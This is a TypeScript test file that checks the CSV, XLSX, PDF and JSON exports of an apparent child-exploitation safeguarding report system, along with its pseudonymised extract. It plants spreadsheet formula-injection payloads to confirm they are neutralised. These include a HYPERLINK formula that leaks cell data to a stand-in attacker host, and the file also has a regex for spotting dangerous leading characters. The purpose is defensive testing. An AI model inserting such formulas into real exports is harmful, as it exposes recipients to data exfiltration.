/**
 * The exports open correctly and are safe: CSV and XLSX parse back to the published cells, the PDF
 * renders to a page with ink on it, a planted formula (=, +, -, @) comes out as inert text, and the
 * pseudonymised extract refuses without a key and carries no names, identifiers or dates of birth.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { protectTable } from './disclosure/index.ts';
import { gridOf, renderExport, toCsv, toXlsx } from './exports.ts';
import type { EventFact, PartyFact, PersonFact, ReportFacts } from './facts.ts';
import { EXTRACT_COLUMNS, extractCsv, pseudonym, pseudonymisedExtract } from './pseudonymise.ts';
import { publishReport, type PublishedReport } from './reports.service.ts';

const PERIOD = { from: '2024-04-01', to: '2025-03-31' };
const KEY = 'k'.repeat(40);
const PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+2', '-3+4', '@SUM(A1:A9)'];
const dir = mkdtempSync(join(tmpdir(), 'sightline-exports-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function person(id: string, over: Partial<PersonFact> = {}): PersonFact {
  return {
    id,
    kind: 'child',
    sex: 'female',
    dateOfBirth: '2010-06-15',
    ethnicityDfe: 'WBRI',
    ethnicityPoliceSelf: null,
    ethnicityPoliceOfficer: null,
    nationality: 'British',
    disability: null,
    district: 'LS1',
    hasNhsNumber: true,
    hasUpn: true,
    lookedAfter: false,
    missingHistory: false,
    ...over,
  };
}

/** A small period: 14 victims on CSE-flagged crimes, two suspects named together on each. */
function facts(): ReportFacts {
  const persons = new Map<string, PersonFact>();
  const events: EventFact[] = [];
  const parties: PartyFact[] = [];
  for (let i = 0; i < 14; i += 1) {
    const v = `victim-${i}`;
    persons.set(v, person(v, { sex: i % 3 === 0 ? 'male' : 'female', lookedAfter: i % 2 === 0 }));
    const e = `crime-${i}`;
    events.push({
      id: e,
      type: 'crime',
      agencyId: 'police',
      agencyKind: 'police',
      agencyName: 'Police',
      day: `2024-0${(i % 9) + 1}-10`,
      locationKind: 'residential',
      postcode: 'LS1 4AB',
      data: { cse_flag: true, offence: 'sexual_activity_with_child' },
      sourceKey: `CR/${i}`,
    });
    parties.push({ eventId: e, personId: v, role: 'victim' });
    for (const s of [`suspect-${i % 4}`, `suspect-${(i % 4) + 4}`]) {
      persons.set(s, person(s, { kind: 'adult_of_concern', sex: 'male', dateOfBirth: '1990-01-02' }));
      parties.push({ eventId: e, personId: s, role: 'suspect' });
    }
  }
  return {
    period: PERIOD,
    agencies: [{ id: 'police', kind: 'police', name: 'Police' }],
    events,
    parties,
    persons,
    concerns: [],
    tablesPresent: new Set(),
  };
}

/** The real return plus one table whose title, counts text and labels are planted formulas. */
function plantedReport(): PublishedReport {
  const report = publishReport('cse-return', facts());
  const planted = protectTable({
    name: 'planted',
    dimensions: [{ name: PLANTED[3]!, categories: PLANTED }],
    counts: [10, 20, 30, 40],
  });
  return {
    ...report,
    sections: [
      ...report.sections,
      {
        spec: {
          id: 'planted',
          section: 'Planted',
          title: PLANTED[0]!,
          counts: PLANTED[1]!,
          chart: 'bar',
          table: { name: 'planted', dimensions: [], counts: [] },
        },
        published: planted,
      },
    ],
  };
}

/** Parses CSV (RFC 4180 quoting) into rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else if (ch !== '\r') cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const DANGEROUS = /^[=+\-@\t\r]/;

describe('report exports', () => {
  it('CSV parses back to every published cell, and no cell starts a formula', () => {
    const report = plantedReport();
    const rows = parseCsv(toCsv(report));
    expect(rows[0]).toEqual([report.title]);
    const cells = rows.flat();
    for (const cell of cells) expect(cell).not.toMatch(DANGEROUS);
    for (const p of PLANTED) expect(cells).toContain(`'${p}`);
    const victimsBySex = report.sections.find((s) => s.spec.id === 'victims_by_sex')!;
    const start = rows.findIndex((r) => r[0] === victimsBySex.spec.title);
    expect(rows.slice(start + 2, start + 2 + gridOf(victimsBySex.published).length)).toEqual(
      gridOf(victimsBySex.published),
    );
  });

  it('XLSX opens in exceljs with a cover sheet, one sheet per table, numbers as numbers, formulas inert', async () => {
    const report = plantedReport();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx(report)) as unknown as Parameters<typeof wb.xlsx.load>[0]);
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Cover',
      ...report.sections.map((_, i) => `T${i + 1}`),
    ]);
    let formulas = 0;
    let texts = 0;
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
          if (typeof cell.value === 'string') {
            texts += 1;
            expect(cell.value).not.toMatch(DANGEROUS);
          }
        }),
      ),
    );
    expect(formulas).toBe(0);
    expect(texts).toBeGreaterThan(20);
    const last = wb.getWorksheet(`T${report.sections.length}`)!;
    expect(last.getCell('A1').value).toBe(`'${PLANTED[0]}`);
    expect(last.getCell('A2').value).toBe(`Counts: ${PLANTED[1]}`);
    const labels = [4, 5, 6, 7].map((r) => last.getCell(`A${r}`).value);
    expect(labels).toEqual(PLANTED.map((p) => `'${p}`));
    expect(last.getCell('B4').value).toBe(10);
    const sex = report.sections.findIndex((s) => s.spec.id === 'victims_by_sex');
    const ws = wb.getWorksheet(`T${sex + 1}`)!;
    const grid = gridOf(report.sections[sex]!.published);
    grid.slice(1).forEach((row, i) => {
      const got = ws.getRow(i + 4).getCell(2).value;
      expect(typeof got === 'number' ? String(got) : got).toBe(row[1]);
    });
  });

  it('PDF renders to a page with ink on it (pdftoppm)', async () => {
    const out = await renderExport(plantedReport(), 'pdf');
    const pdf = join(dir, 'return.pdf');
    writeFileSync(pdf, out.body);
    expect(readFileSync(pdf).subarray(0, 5).toString()).toBe('%PDF-');
    const png = join(dir, 'png');
    mkdirSync(png, { recursive: true });
    execFileSync('pdftoppm', ['-r', '60', '-png', pdf, join(png, 'page')]);
    const pages = readdirSync(png).filter((f) => f.endsWith('.png'));
    expect(pages.length).toBeGreaterThanOrEqual(1);
    const shot = join(import.meta.dirname, '..', '..', 'test-results', 'screenshots');
    mkdirSync(shot, { recursive: true });
    execFileSync('pdftoppm', ['-r', '80', '-png', '-f', '1', '-l', '1', pdf, join(shot, 'cse-return-pdf')]);
    // Raw greyscale of page 1: count the dark pixels (text and rules).
    execFileSync('pdftoppm', [
      '-r',
      '40',
      '-gray',
      '-f',
      '1',
      '-l',
      '1',
      '-singlefile',
      pdf,
      join(dir, 'p1'),
    ]);
    const pgm = readFileSync(join(dir, 'p1.pgm'));
    const headerEnd = pgm.indexOf('255\n') + 4;
    const pixels = pgm.subarray(headerEnd);
    const dark = pixels.filter((v) => v < 128).length;
    expect(dark / pixels.length).toBeGreaterThan(0.005);
    expect(dark / pixels.length).toBeLessThan(0.5);
  });

  it('JSON carries the published cells only (displays, with suppressed values null)', async () => {
    const out = await renderExport(plantedReport(), 'json');
    const parsed = JSON.parse(String(out.body)) as {
      tables: { cells: { value: number | null; display: string }[] }[];
    };
    const cells = parsed.tables.flatMap((t) => t.cells);
    expect(cells.filter((c) => c.display === 'c').every((c) => c.value === null)).toBe(true);
  });
});

describe('pseudonymised extract', () => {
  it('refuses to run without a key, or with a short one', () => {
    expect(() => pseudonymisedExtract(facts(), undefined)).toThrow(/SIGHTLINE_PSEUDONYM_KEY/);
    expect(() => extractCsv(facts(), 'short-key')).toThrow(/refusing/);
  });

  it('has one row per victim and offender, keyed pseudonyms, no ids, names or dates of birth', () => {
    const f = facts();
    const csv = extractCsv(f, KEY);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...EXTRACT_COLUMNS]);
    expect(rows.length - 1).toBe(14 + 8);
    for (const id of f.persons.keys()) expect(csv).not.toContain(id);
    expect(csv).not.toContain('2010-06-15');
    expect(csv).not.toContain('1990-01-02');
    expect(csv).not.toMatch(/CR\/\d/);
    const keyed = new Set(rows.slice(1).map((r) => r[0]));
    expect(keyed.has(pseudonym(KEY, 'victim-0'))).toBe(true);
    expect(keyed.has(pseudonym('x'.repeat(40), 'victim-0'))).toBe(false);
    expect(rows.slice(1).every((r) => /^[0-9a-f]{64}$/.test(r[0]!))).toBe(true);
  });
});
